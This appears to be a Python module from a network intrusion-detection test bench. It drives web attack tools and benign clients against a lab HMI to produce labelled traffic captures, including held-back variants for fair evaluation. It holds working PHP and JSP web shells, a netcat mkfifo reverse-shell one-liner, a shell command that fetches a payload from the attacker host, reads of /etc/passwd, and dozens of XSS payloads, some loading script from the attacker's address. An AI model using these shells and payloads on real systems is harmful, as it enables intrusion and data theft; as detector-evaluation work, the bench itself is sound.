"""Web attacks on the victim's HMI, and benign web clients, for the real-tool bench.

``detect_real_tools.py`` runs these like its other scenarios (``--scenario NAME``, ``--keep DIR``):
the tool runs on the attacker's host against the web HMI the victim serves on port 80
(``web_hmi.py``: a login form, report and search pages built from their query parameters, a JSON
API, a multipart upload form, static assets, 404s), with the plant's benign background throughout.

Attacks, with the family their alerts should carry:

* ``sqlmap``: sqlmap crawling the HMI and testing every parameter and form it finds (boolean, error,
  union, stacked and time-based techniques; level 3 also tests the User-Agent and Referer headers);
  injection
* ``xss_payloads``: the payload families XSStrike and wapiti send (reflection probes, tag and event
  handler mutations with mixed case and encoded separators, script tags, ``javascript:`` URLs,
  context breakers), sent by this module's ``xss`` client into every parameter of the report and
  search pages and the login form. XSStrike itself is not packaged in Debian, so this is its payloads,
  not its engine; injection
* ``wapiti_xss``: wapiti's XSS module (``-m xss``); injection
* ``wapiti_all``: wapiti with its default modules (a crawl, then CSP, HTTP headers, cookie flags,
  command execution, file handling, SQL, XSS, SSRF, open redirect, blind SQL and stored XSS);
  information gathering (a vulnerability scanner)
* ``dirb`` (its ``common.txt``) and ``gobuster_dir`` (dirb's ``big.txt``, 10 threads): path brute force
  with the wordlists Debian ships; information gathering
* ``nmap_http_scripts``: ``nmap -sV -sC -p80``: version probes and the default HTTP scripts;
  information gathering
* ``upload_webshell``: curl posting a PHP web shell and a Windows executable through the upload
  form, then calling the shell with commands; injection (the dataset's Uploading class)
* ``nc_reverse_shell``: the victim runs netcat to the attacker's listening port with a shell on it
  (the classic ``mkfifo`` one-liner, retried every second until the listener is up, as a stager
  does) and the attacker types a few commands; malware (the dataset's Backdoor class)

Benign web clients (any alert is a false one):

* ``web_browsing``: wget fetching the HMI recursively with its page requisites (pages, styles,
  scripts, images, robots.txt) as a browser loads them, 8 visits 5 s apart
* ``rest_polling``: this module's ``rest`` client polling the JSON API every 200 ms over one
  connection, with long query strings (every tag, a sliding time range, fields, an aggregation)
* ``dashboard_refresh``: this module's ``dashboard`` client as a browser tab shows the overview: the
  values API every 2 s, the page reloaded every 10 s with conditional requests for its assets (304)

Held-back variants (:func:`held_back_scenarios`): they exist to check the detector on tool runs it
was not developed on. The ``web_attack`` rule was written looking at the captures of the scenarios
above; these run the same kinds of tools with other options, payloads and wordlists, and their
captures were not looked at before the rule was fixed, so their verdicts are a held-back measurement
(never tune the rule on them, or they stop being one):

* ``sqlmap_time_tamper``: sqlmap on the login form's ``user`` only, time-based blind only
  (``--technique=T``), its payloads rewritten by ``--tamper=space2comment,between,randomcase``;
  injection
* ``sqlmap_union_get``: sqlmap ``--technique=U --level 2`` on the report page's ``tag`` (GET); injection
* ``wapiti_exec_file``: wapiti ``-m exec,file`` (command execution and file handling); information
  gathering (a vulnerability scanner)
* ``wapiti_sql_only``: wapiti ``-m sql``; injection
* ``gobuster_small_slow``: gobuster dir with dirb's ``small.txt``, 2 threads, 50 ms between requests;
  information gathering
* ``dirb_extensions``: dirb with ``small.txt`` and ``-X .php,.bak``; information gathering
* ``nmap_http_enum``: ``nmap -n -p80 --script http-enum,http-headers,http-methods``; information
  gathering
* ``curl_xss_encoded``: curl posting a short list of XSS payloads (not ``xss_payloads``' list) in
  mixed case, double URL-encoded with mixed-case hex, in the bodies of the login and search forms;
  injection
* ``upload_exe_put``: curl uploading an executable (a copy of ``/bin/true`` named ``tool.exe``) and a
  JSP shell through the upload form, trying an HTTP PUT of the shell, then calling it; injection

and benign, where any alert is a false one:

* ``api_client_bulk``: this module's ``bulk`` client: the JSON API 5 times a second for 30 s with long
  query strings whose values are plain English holding SQL's words (``q=select pumps from area 3``,
  ``order=by name``, ``update``, ``where``...), as an operator's search box sends them
* ``browser_many_assets``: wget fetching every HMI page with its page requisites (``-p``, no
  recursion), 6 rounds 3 s apart

Run as a program, this module is those clients::

    python bench/web_scenarios.py {xss,rest,dashboard,bulk} VICTIM_IP [--seconds N]
"""

from __future__ import annotations

import argparse
import http.client
import os
import random
import re
import shutil
import subprocess
import sys
import time
import urllib.parse
from pathlib import Path

from tool_scenarios import ATTACKER_IP, INFO, MALWARE, VICTIM_IP, Scenario, loop

INJECTION = "injection"
HERE = Path(__file__).resolve().parent
WORDLISTS = Path("/usr/share/dirb/wordlists")
BROWSER_UA = "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0"

# What the uploaded web shell holds (never run: the HMI only stores and serves bytes).
WEB_SHELL = ("<?php if (isset($_REQUEST['cmd'])) { echo '<pre>'; $c = $_REQUEST['cmd']; system($c); "
             "echo '</pre>'; die; } ?><form method=post><input name=cmd></form>")

# Commands typed into the reverse shell, in the bench's work directory: harmless, and none shows the
# host's files or processes (the namespaces share both) in the capture.
SHELL_COMMANDS = ("id", "whoami", "uname -sm", "cat /etc/os-release", "ip -4 addr", "ip route", "ls -la",
                  "ss -tln", "echo done")


def web_scenarios() -> list[Scenario]:
    """The web scenarios, in the order they run (benign ones first: attacks leave uploads behind)."""
    v, a = VICTIM_IP, ATTACKER_IP
    hmi = f"http://{v}/"
    me = (sys.executable, str(HERE / "web_scenarios.py"))
    upload = " ".join([
        "printf '%s' \"$1\" > {work}/cmd.php;",
        # a PE-looking file: the DOS header's magic and stub, then random bytes
        "{ printf 'MZ\\220\\0\\3\\0\\0\\0\\4\\0\\0\\0\\377\\377\\0\\0'; head -c 49152 /dev/urandom; }"
        " > {work}/plc_update.exe;",
        f"curl -s -o /dev/null {hmi}upload; sleep 1;",
        f"curl -s -F file=@{{work}}/cmd.php -F comment=recipe {hmi}upload; sleep 1;",
        f"curl -s -F 'file=@{{work}}/cmd.php;filename=cmd.php.jpg;type=image/jpeg' {hmi}upload; sleep 1;",
        f"curl -s -F file=@{{work}}/plc_update.exe -F comment=update {hmi}upload; sleep 1;",
        *(f"curl -s '{hmi}uploads/cmd.php?cmd={urllib.parse.quote(c)}'; sleep 0.5;"
          for c in ("id", "whoami", "uname -a", "ls -la", "cat /etc/passwd")),
        f"curl -s --data-urlencode 'cmd=wget http://{a}:8000/x -O /tmp/x' {hmi}uploads/cmd.php;",
        f"curl -s -o /dev/null {hmi}uploads/plc_update.exe",
    ])
    fifo = "{work}/reverse_shell.fifo"
    victim_shell = (f"cd {{work}}; rm -f {fifo}; mkfifo {fifo}; "
                    f"until cat {fifo} | sh -i 2>&1 | nc {a} 4444 > {fifo}; do sleep 1; done")
    typed = "; ".join(f"echo '{c}'; sleep 1.5" for c in SHELL_COMMANDS)
    listener = f"{{ sleep 1; {typed}; echo exit; sleep 2; }} | nc -N -l 4444"
    wget = (f"wget -q --recursive --level 2 --page-requisites --delete-after -P {{work}}/browse "
            f"--user-agent '{BROWSER_UA}' {hmi}")
    return [
        Scenario("web_browsing", None, loop(wget, 5, times=8), 90,
                 "wget: 8 recursive visits of the HMI with page requisites, 5 s apart", "wget", needs=("wget",)),
        Scenario("rest_polling", None, (*me, "rest", v, "--seconds", "30"), 40,
                 "python: the JSON API polled every 200 ms with long query strings for 30 s"),
        Scenario("dashboard_refresh", None, (*me, "dashboard", v, "--seconds", "40"), 50,
                 "python: a dashboard tab: values every 2 s, page and conditional assets every 10 s, 40 s"),
        Scenario("sqlmap", INJECTION, ("sqlmap", "-u", hmi, "--crawl", "2", "--forms", "--batch", "--level", "3",
                                       "--risk", "2", "--flush-session", "--output-dir", "{work}/sqlmap"), 240,
                 "sqlmap: crawl, forms, level 3, risk 2, all techniques, stopped after 240 s", "sqlmap"),
        Scenario("xss_payloads", INJECTION, (*me, "xss", v), 120,
                 "python: XSStrike- and wapiti-style XSS payloads into every parameter (XSStrike is not in "
                 "Debian)"),
        Scenario("wapiti_xss", INJECTION, ("wapiti", "-u", hmi, "-m", "xss", "--flush-session", "--max-scan-time",
                                           "120", "-f", "txt", "-o", "{work}/wapiti-xss.txt"), 150,
                 "wapiti -m xss (at most 120 s)", "wapiti"),
        # --max-scan-time alone does not stop it in time (the blind SQL module's delays): each module is
        # capped too, and the limit is above both (stopped, wapiti waits on a question on its terminal)
        Scenario("wapiti_all", INFO, ("wapiti", "-u", hmi, "--flush-session", "--max-scan-time", "360",
                                      "--max-attack-time", "40", "--external-endpoint", f"http://{a}/", "-f", "txt",
                                      "-o", "{work}/wapiti-all.txt"), 420,
                 "wapiti, default modules (at most 40 s each, 360 s in all)", "wapiti"),
        Scenario("dirb", INFO, ("dirb", hmi, str(WORDLISTS / "common.txt"), "-S", "-o", "{work}/dirb.txt"), 360,
                 "dirb with its common.txt (4,614 words), one request at a time", "dirb"),
        Scenario("gobuster_dir", INFO, ("gobuster", "dir", "-q", "-u", hmi, "-w", str(WORDLISTS / "big.txt"), "-t",
                                        "10", "-o", "{work}/gobuster.txt"), 180,
                 "gobuster dir with dirb's big.txt (20,469 words), 10 threads, stopped after 180 s",
                 "gobuster dirb", needs=("gobuster", "dirb")),
        Scenario("nmap_http_scripts", INFO, ("nmap", "-n", "-sV", "-sC", "-p80", v), 180, "nmap -sV -sC -p80"),
        Scenario("upload_webshell", INJECTION, ("sh", "-c", upload, "upload", WEB_SHELL), 60,
                 "curl: a PHP web shell (also as .php.jpg) and an .exe through the upload form, then shell "
                 "commands", "curl", needs=("curl",)),
        Scenario("nc_reverse_shell", MALWARE, ("sh", "-c", listener), 60,
                 f"netcat: the victim's shell connected to the attacker's listener, {len(SHELL_COMMANDS)} "
                 "commands typed", "netcat-openbsd", ("sh", "-c", victim_shell), ("nc",)),
    ]


# A JSP shell as a web shell kit carries it (never run: the HMI only stores and serves bytes).
JSP_SHELL = ('<%@ page import="java.io.*" %><% String c = request.getParameter("cmd"); if (c != null) { '
             'Process p = Runtime.getRuntime().exec(c); BufferedReader r = new BufferedReader(new '
             'InputStreamReader(p.getInputStream())); String l; while ((l = r.readLine()) != null) { '
             'out.println(l); } } %><form method=get><input name=cmd></form>')

# XSS payloads for the held-back curl scenario, written apart from xss_payloads(): other tags, handlers
# and sinks, each in mixed case.
XSS_HELD_BACK = (
    "<ImG sRc=x OnErRoR=prompt(document.domain)>",
    "<SvG/OnLoAd=confirm(1)>",
    "<BoDy OnPaGeShOw=alert(1)>",
    '<iFrAmE SrC="JaVaScRiPt:alert(1)"></iFrAmE>',
    '<a HrEf="jAvAsCrIpT:alert(document.cookie)">report</a>',
    '"><ScRiPt SrC=//' + ATTACKER_IP + "/h.js></ScRiPt>",
    "<InPuT OnFoCuS=alert(1) AuToFoCuS>",
    "<dEtAiLs OpEn OnToGgLe=alert(1)>",
    "<StYlE>@import'jAvAsCrIpT:alert(1)';</StYlE>",
    "<TaBlE BaCkGrOuNd=\"javascript:alert(1)\">",
    "<ScRiPt>eval(atob('YWxlcnQoMSk='))</ScRiPt>",
    "<DiV StYlE=\"width:eXpReSsIoN(alert(1))\">",
    "<SvG><AnImAtE OnBeGiN=alert(1) attributeName=x dur=1s>",
    "<img src=x:alert(alt) OnErRoR=eval(src) alt=0>",
    "'-ToP['aL'+'eRt'](1)-'",
    "<MaTh><MtExT><TaBlE><MgLyPh><StYlE><!--</StYlE><ImG TiTlE=\"--&gt;&lt;/mglyph&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;\">",
)


def double_encoded(text: str, rnd: random.Random) -> str:
    """``text`` percent-encoded twice (``<`` becomes ``%253C``), hex digits in mixed case."""
    twice = urllib.parse.quote(urllib.parse.quote(text, safe=""), safe="")
    return re.sub(r"%25[0-9A-F]{2}|%[0-9A-F]{2}", lambda m: m[0].lower() if rnd.random() < 0.5 else m[0], twice)


def held_back_scenarios() -> list[Scenario]:
    """The held-back variants (see the module docstring): the same kinds of tools run otherwise, to
    check the detector on tool runs it was not developed on. Benign ones first, as in
    :func:`web_scenarios`."""
    v, a = VICTIM_IP, ATTACKER_IP
    hmi = f"http://{v}/"
    me = (sys.executable, str(HERE / "web_scenarios.py"))
    report = f"{hmi}report?tag=PT101&from=2026-12-07T00:00&to=2026-12-07T06:00"
    pages = [hmi, f"{hmi}index.html", f"{hmi}login", f"{hmi}search?q=pump", f"{hmi}upload", f"{hmi}api/v1/tags",
             *(f"{hmi}report?tag={t}&from=2026-12-07T00:00&to=2026-12-07T06:00"
               for t in ("PT101", "PT102", "FT201", "TT301", "LT401", "SP501"))]
    wget = (f"wget -q --page-requisites --delete-after -P {{work}}/assets --user-agent '{BROWSER_UA}' "
            + " ".join(f"'{u}'" for u in pages))
    rnd = random.Random(20261208)
    xss_posts = " ".join(
        f"curl -s -o /dev/null --data-raw '{field}={double_encoded(p, rnd)}{rest}' {hmi}{path}; sleep 0.3;"
        for p in XSS_HELD_BACK for path, field, rest in (("login", "user", "&pass=x"), ("search", "q", "")))
    upload = " ".join([
        "cp /bin/true {work}/tool.exe; printf '%s' \"$1\" > {work}/shell.jsp;",
        f"curl -s -o /dev/null {hmi}upload; sleep 1;",
        f"curl -s -o /dev/null -F file=@{{work}}/tool.exe -F comment=tool {hmi}upload; sleep 1;",
        f"curl -s -o /dev/null -F file=@{{work}}/shell.jsp -F comment=report {hmi}upload; sleep 1;",
        f"curl -s -o /dev/null -T {{work}}/shell.jsp {hmi}uploads/shell.jsp; sleep 1;",
        *(f"curl -s -o /dev/null '{hmi}uploads/shell.jsp?cmd={urllib.parse.quote(c)}'; sleep 0.5;"
          for c in ("id", "hostname", "uname -a", "cat /etc/passwd")),
        f"curl -s -o /dev/null {hmi}uploads/tool.exe",
    ])
    small = str(WORDLISTS / "small.txt")
    return [
        Scenario("api_client_bulk", None, (*me, "bulk", v, "--seconds", "30"), 40,
                 "python: the JSON API 5 times a second for 30 s, plain English query values with SQL's words"),
        Scenario("browser_many_assets", None, loop(wget, 3, times=6), 90,
                 f"wget -p of all {len(pages)} HMI pages, 6 rounds 3 s apart", "wget", needs=("wget",)),
        Scenario("sqlmap_time_tamper", INJECTION, ("sqlmap", "-u", f"{hmi}login", "--data", "user=admin&pass=x", "-p",
                                                   "user", "--technique=T",
                                                   "--tamper=space2comment,between,randomcase", "--batch",
                                                   "--flush-session", "--output-dir", "{work}/sqlmap-t"), 180,
                 "sqlmap: login form's user only, time-based only, three tamper scripts, stopped after 180 s",
                 "sqlmap"),
        Scenario("sqlmap_union_get", INJECTION, ("sqlmap", "-u", report, "-p", "tag", "--technique=U", "--level",
                                                 "2", "--batch", "--flush-session", "--output-dir",
                                                 "{work}/sqlmap-u"), 180,
                 "sqlmap: the report page's tag (GET), UNION only, level 2, stopped after 180 s", "sqlmap"),
        Scenario("wapiti_exec_file", INFO, ("wapiti", "-u", hmi, "-m", "exec,file", "--flush-session",
                                            "--max-scan-time", "150", "-f", "txt", "-o", "{work}/wapiti-ef.txt"), 180,
                 "wapiti -m exec,file (at most 150 s)", "wapiti"),
        Scenario("wapiti_sql_only", INJECTION, ("wapiti", "-u", hmi, "-m", "sql", "--flush-session",
                                                "--max-scan-time", "150", "-f", "txt", "-o", "{work}/wapiti-sql.txt"),
                 180, "wapiti -m sql (at most 150 s)", "wapiti"),
        Scenario("gobuster_small_slow", INFO, ("gobuster", "dir", "-q", "-u", hmi, "-w", small, "-t", "2", "--delay",
                                               "50ms", "-o", "{work}/gobuster-small.txt"), 180,
                 "gobuster dir with dirb's small.txt (959 words), 2 threads, 50 ms delay", "gobuster dirb",
                 needs=("gobuster", "dirb")),
        Scenario("dirb_extensions", INFO, ("dirb", hmi, small, "-X", ".php,.bak", "-S", "-o", "{work}/dirb-ext.txt"),
                 240, "dirb with small.txt and -X .php,.bak, one request at a time", "dirb"),
        Scenario("nmap_http_enum", INFO, ("nmap", "-n", "-p80", "--script", "http-enum,http-headers,http-methods",
                                          v), 180, "nmap -p80 --script http-enum,http-headers,http-methods"),
        Scenario("curl_xss_encoded", INJECTION, ("sh", "-c", xss_posts), 60,
                 f"curl: {len(XSS_HELD_BACK)} mixed-case XSS payloads, double URL-encoded, in the login and search "
                 "forms' POST bodies", "curl", needs=("curl",)),
        Scenario("upload_exe_put", INJECTION, ("sh", "-c", upload, "upload", JSP_SHELL), 60,
                 f"curl: tool.exe (/bin/true) and a JSP shell through the upload form, a PUT of the shell, then "
                 f"shell commands (from {a})", "curl", needs=("curl",)),
    ]


def install_missing(chosen: list[Scenario], required: dict[str, str]) -> None:
    """``apt-get install`` the Debian packages of ``required`` (program -> package) and of the
    ``chosen`` scenarios whose programs are not installed."""
    sbin = os.pathsep.join([os.environ.get("PATH", ""), "/usr/local/sbin", "/usr/sbin", "/sbin"])
    missing = {pkg for prog, pkg in required.items() if shutil.which(prog, path=sbin) is None}
    for sc in chosen:
        if sc.package and any(shutil.which(p, path=sbin) is None for p in sc.programs()):
            missing.update(sc.package.split())
    if not missing:
        return
    print(f"installing {' '.join(sorted(missing))}", flush=True)
    env = {**os.environ, "DEBIAN_FRONTEND": "noninteractive"}
    subprocess.run(["apt-get", "install", "-y", "-q", *sorted(missing)], env=env, check=False)


# --------------------------------------------------------------------------------------------------
# the clients


def xss_payloads(marker: str) -> list[str]:
    """XSS payloads as XSStrike and wapiti send them: reflection probes first, then mutations."""
    # XSStrike: a probe, its fuzzer's tag shapes, then generated vectors (tag x handler x filler x function)
    probes = [marker, f"{marker}'\"<>", f"<{marker}>", f"'{marker}", f'"{marker}']
    fuzz = ["<test", "<test//", "<test>", "<test x>", "<test x=y", "<test x=y//", "<test/oNxX=yYy//",
            "<test o\rnxx=yyy>", "<test onxxx=yyy", "<test xxx=yyy x=y//", "<script>", "</script>",
            "<svg/onload>", "';alert``;'", '"><test']
    tags = ["d3v", "HtMl", "details", "svg", "img", "a", "DeTaIlS", "iframe"]
    handlers = [("onmouseover", ""), ("onpointerenter", ""), ("ontoggle", " open"), ("onload", ""),
                ("oNeRrOr", " src=x"), ("OnFoCuS", " autofocus tabindex=1")]
    functions = ["confirm()", "(confirm)()", "prompt``", "alert(1)", "[8].find(confirm)", "top['al'+'ert'](1)"]
    fillers = ["%09", "%0a", "%0d", "/+/", " ", "/"]
    rnd = random.Random(20261207)
    vectors = []
    for _ in range(60):
        tag, (handler, extra), fn, filler = (rnd.choice(tags), rnd.choice(handlers), rnd.choice(functions),
                                             rnd.choice(fillers))
        sep = urllib.parse.unquote(filler)
        end = rnd.choice([">", "//", "x>", " x//"])
        vectors.append(f"{rnd.choice(['', chr(39), chr(34), chr(39) + chr(34) + '>'])}<{tag}{extra}{sep}{handler}"
                       f"{sep}={sep}{fn}{end}")
    js_context = ["'-confirm()-'", '"-confirm()-"', "';confirm();//", "</ScRiPt><sCrIpT>confirm()</sCrIpT>",
                  "\\';confirm(1)//", "javascript:confirm()",
                  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/"
                  "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"]
    # wapiti: its taint probe, then script tags in mixed case, String.fromCharCode and event handlers
    taint = "w" + marker[:6]
    codes = ",".join(str(ord(c)) for c in taint)
    wapiti = [taint, f"<ScRiPt>alert('{taint}')</ScRiPt>", f"<script>alert('{taint}')</script>",
              f"\"><ScRiPt>alert('{taint}')</ScRiPt>", f"'><ScRiPt>alert('{taint}')</ScRiPt>",
              f"<script>String.fromCharCode({codes})</script>", f"<ScRiPt >alert(String.fromCharCode({codes}))"
              f"</ScRiPt >", f"<img src=. onerror=alert('{taint}')>", f"<img src=x onerror=\"alert('{taint}')\">",
              f"<svg onload=alert('{taint}')>", f"<body onload=alert('{taint}')>",
              f"<iframe src=javascript:alert('{taint}')></iframe>", f"<a href=javascript:alert('{taint}')>x</a>",
              f"<input autofocus onfocus=alert('{taint}')>", f"<video><source onerror=\"javascript:alert('{taint}')\">",
              f"<object data=\"javascript:alert('{taint}')\">", f"<ScRiPt/src=//{ATTACKER_IP}/{taint}.js></ScRiPt>",
              f"\"><img src=x onerror=alert(/{taint}/)>", f"<marquee onstart=alert('{taint}')>"]
    return probes + fuzz + vectors + js_context + wapiti


def xss(victim: str) -> None:
    """Every payload into every parameter of the report and search pages (GET) and the login form
    (POST), one connection per payload burst, as the two tools do with their own user agents."""
    rnd = random.Random(7)
    uas = [BROWSER_UA, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                       "Chrome/119.0.0.0 Safari/537.36",
           "Mozilla/5.0 (Windows NT 6.1; rv:45.0) Gecko/20100101 Firefox/45.0"]
    base = {"/report": {"tag": "PT101", "from": "2026-12-07T00:00", "to": "2026-12-07T06:00"},
            "/search": {"q": "pump"}}
    conn = http.client.HTTPConnection(victim, 80, timeout=5)
    for payload in xss_payloads("v3dm0s"):
        ua = rnd.choice(uas)
        targets = [(path, name) for path, params in base.items() for name in params] + [("/login", "user")]
        for path, name in targets:
            try:
                if path == "/login":
                    body = urllib.parse.urlencode({"user": payload, "pass": "x"})
                    conn.request("POST", path, body, {"User-Agent": ua, "Content-Type":
                                                      "application/x-www-form-urlencoded"})
                else:
                    params = {**base[path], name: payload}
                    conn.request("GET", f"{path}?{urllib.parse.urlencode(params)}", headers={"User-Agent": ua})
                conn.getresponse().read()
            except (OSError, http.client.HTTPException):
                conn.close()
                conn = http.client.HTTPConnection(victim, 80, timeout=5)
            time.sleep(rnd.uniform(0.0, 0.08))


def _get_json(conn: http.client.HTTPConnection, victim: str, target: str, agent: str) -> http.client.HTTPConnection:
    """GET ``target`` as an API client (``agent``); the connection to go on with (a new one after an error)."""
    try:
        conn.request("GET", target, headers={"User-Agent": agent, "Accept": "application/json"})
        conn.getresponse().read()
    except (OSError, http.client.HTTPException):
        conn.close()
        conn = http.client.HTTPConnection(victim, 80, timeout=5)
    return conn


def rest(victim: str, seconds: float) -> None:
    """The values API every 200 ms over one kept-alive connection, with a long sliding query."""
    fields = "tag,value,unit,quality,ts,source_timestamp,server_timestamp,status_code"
    tags = "PT101,PT102,FT201,TT301,LT401,SP501"
    conn = http.client.HTTPConnection(victim, 80, timeout=5)
    end = time.monotonic() + seconds
    n = 0
    while time.monotonic() < end:
        now = time.time()
        query = urllib.parse.urlencode({
            "tags": tags, "fields": fields, "resolution": "200ms", "aggregate": "avg,min,max",
            "from": time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime(now - 60)),
            "to": time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime(now)),
            "site": "plant-1", "area": "line-1/pumping", "client": "historian-sync", "seq": str(n)})
        conn = _get_json(conn, victim, f"/api/v1/values?{query}", "historian-sync/1.2")
        n += 1
        time.sleep(max(0.0, 0.2 - (time.time() - now)))


def dashboard(victim: str, seconds: float) -> None:
    """A browser tab on the overview: the values API every 2 s, the page reloaded every 10 s with
    conditional requests for its assets."""
    headers = {"User-Agent": BROWSER_UA, "Accept-Language": "en-US,en;q=0.5"}
    modified: dict[str, str] = {}
    conn = http.client.HTTPConnection(victim, 80, timeout=5)
    end, tick = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        paths = ["/api/v1/values?tags=PT101,PT102,FT201,TT301,LT401&resolution=1s"]
        if tick % 5 == 0:
            paths = ["/", "/static/hmi.css", "/static/hmi.js", "/static/logo.svg", *paths]
        for path in paths:
            extra = {"If-Modified-Since": modified[path]} if path in modified else {}
            try:
                conn.request("GET", path, headers={**headers, **extra, "Referer": f"http://{victim}/"})
                resp = conn.getresponse()
                resp.read()
                if resp.getheader("Last-Modified"):
                    modified[path] = resp.getheader("Last-Modified") or ""
            except (OSError, http.client.HTTPException):
                conn.close()
                conn = http.client.HTTPConnection(victim, 80, timeout=5)
        tick += 1
        time.sleep(2)


# Plain English an operator types into a search box and a report's sort order: SQL's words, no SQL.
BULK_QUERIES = (
    {"q": "select pumps from area 3", "order": "by name"},
    {"q": "update rate from the historian for line 1", "order": "by tag"},
    {"q": "select all tanks where level is low", "order": "by level then by name"},
    {"q": "pumps and valves from area 2 or area 3", "order": "newest first"},
    {"q": "alarms from last shift, update pending", "order": "by priority"},
    {"q": "drop in pressure from pump 1 to pump 2", "order": "by time"},
    {"q": "select the values from tank 1 and tank 2", "order": "by value desc"},
    {"q": "insert new recipe for batch 7 into the queue", "order": "by batch"},
)


def bulk(victim: str, seconds: float) -> None:
    """The JSON API 5 times a second over one kept-alive connection, each query a long one whose
    values are plain English holding SQL's words."""
    conn = http.client.HTTPConnection(victim, 80, timeout=5)
    end = time.monotonic() + seconds
    n = 0
    while time.monotonic() < end:
        now = time.time()
        words = BULK_QUERIES[n % len(BULK_QUERIES)]
        path = "/api/v1/tags" if n % 4 == 3 else "/api/v1/values"
        query = urllib.parse.urlencode({
            **words, "tags": "PT101,PT102,FT201,TT301,LT401,SP501", "area": "line-1/pumping",
            "from": time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime(now - 3600)),
            "to": time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime(now)),
            "fields": "tag,value,unit,quality,ts", "limit": "500", "page": str(n % 7 + 1), "client": "ops-report"})
        conn = _get_json(conn, victim, f"{path}?{query}", "plant-ops-report/3.4")
        n += 1
        time.sleep(max(0.0, 0.2 - (time.time() - now)))


def main(argv: list[str] | None = None) -> None:
    ap = argparse.ArgumentParser(description="the web scenarios' clients")
    ap.add_argument("client", choices=["xss", "rest", "dashboard", "bulk"])
    ap.add_argument("victim")
    ap.add_argument("--seconds", type=float, default=30.0)
    args = ap.parse_args(argv)
    if args.client == "xss":
        xss(args.victim)
    elif args.client == "rest":
        rest(args.victim, args.seconds)
    elif args.client == "bulk":
        bulk(args.victim, args.seconds)
    else:
        dashboard(args.victim, args.seconds)


if __name__ == "__main__":
    main()
